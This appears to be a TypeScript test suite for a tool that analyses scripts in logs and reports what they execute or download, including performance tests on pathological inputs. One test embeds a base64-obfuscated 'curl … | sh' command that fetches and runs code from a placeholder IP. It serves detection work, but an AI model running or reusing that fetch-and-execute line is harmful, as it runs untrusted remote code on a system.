import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../../lib/testing.ts';
import type { Language } from './parse.ts';
import { languageOf } from './read.ts';
import { actsIn, effectsIn } from './testing.ts';

for (const [program, wanted] of [
  ['python3.13', 'python'],
  ['pypy3', 'python'],
  ['nodejs', 'javascript'],
  ['php8.4', 'php'],
  ['perl', null],
  ['constructor', null],
] as const) {
  test(`${program} is read as ${wanted ?? 'no language of its own'}`, () => assert.equal(languageOf(program), wanted));
}

test('the statement is what a person is shown, and the layers say what was taken off', () => {
  const found = effectsIn(
    'python',
    `import base64, os\nprint("start")\nos.system(base64.b64decode("${btoa('curl -s http://203.0.113.7/x | sh')}").decode())`,
  );
  const execute = found.find((effect) => effect.kind === 'execute' && effect.what === 'decoded');
  assert.match(execute?.shown ?? '', /^os\.system\(/);
  const download = found.find(({ kind }) => kind === 'download');
  assert.deepEqual(download?.layers, ['base64']);
  assert.equal(download?.shown, 'curl -s http://203.0.113.7/x');
});

test('a variable that the log does not hold is said', () => {
  assert.deepEqual(actsIn('python', 'import os\nos.system(os.environ["JOB"])'), [
    'unresolved: runs the value of $JOB, which the log does not hold',
  ]);
});

const HOSTILE: Readonly<Record<Language, readonly string[]>> = {
  python: [
    ...[
      '[',
      '(',
      '{',
      'a(',
      '"',
      '`',
      ')',
      '/',
      '-',
      'not ',
      'lambda:',
      '"""',
      "f'{",
      'a.b.',
      'a\n',
      'if a:\n ',
      '"a" ',
    ],
    ...[
      'x=x+x\n',
      'def f():\n f()\n f()\n',
      'exec("',
      'f=lambda:f()+f()\n',
      'x["a"]=x;',
      '[[i for i in range(9999)]for j in range(9999)]\n',
    ],
    'class A(A):\n def f(self):\n  self.f()\n',
  ],
  javascript: [
    ...['[', '(', '{', '(a,', '-', '/*', '/', '"', '`${', 'a=>', 'async(', 'new ', '!', 'a?', 'a.b.', 'a\n', '<T>('],
    ...['function f(){f();f()};', 'x=[x,x];', 'eval("', 'while(i<9){i++}', 'a.then(f=>'],
  ],
  php: [
    ...['[', '(', '{', '$a=', '"', "'", '`', ')', '<<<A\n', '"{$a[', 'fn()=>', '!', '$a.', 'foo bar '],
    ...['function f(){f();f();}', '$x=[$x,$x];', "eval('", '$f($f('],
  ],
};
const LANGUAGES = ['python', 'javascript', 'php'] as const;

for (const language of LANGUAGES) {
  for (const piece of HOSTILE[language]) {
    test(`${language}: linear on ${JSON.stringify(piece)}`, () => {
      const ratio = growth((size) => effectsIn(language, piece.repeat(size / piece.length)), 12_000);
      assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
    });
  }

  test(`${language}: what was left out of a program that is too deep is said`, () => {
    const found = actsIn(language, `a(${'['.repeat(20_000)}`);
    assert.ok(
      found.some((act) => act.startsWith('unresolved')),
      found.join('\n'),
    );
  });
}

test('a thing that stands in itself, and one that stands in another many times over', () => {
  const wide = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].reduce(
    (code, name, at, all) => `${code}${name}=[${`${all[at - 1] ?? '1'},`.repeat(300)}];`,
    '',
  );
  const start = process.cpuUsage();
  actsIn('python', `import os;${wide}os.system(g);print(g)`);
  actsIn('javascript', 'const o={};o.o=o;const l=[];l.push(l);fetch("https://example.com",{body:o});eval(l)');
  actsIn('javascript', 'let x=y;for(let i=0;i<4000;i++){x=x.a}eval(x)');
  const { user } = process.cpuUsage(start);
  assert.ok(user < 1_000_000, `${user} µs`);
});

test('names of the languages are no members of theirs', () => {
  for (const language of LANGUAGES) {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      assert.deepEqual(
        actsIn(
          language,
          `${language === 'php' ? '$' : ''}x.${name}(1);"a".${name}(1);[].${name}(2);({}).${name}(3);${name}(4)`,
        ).filter((act) => !act.startsWith('unresolved')),
        [],
      );
    }
  }
});
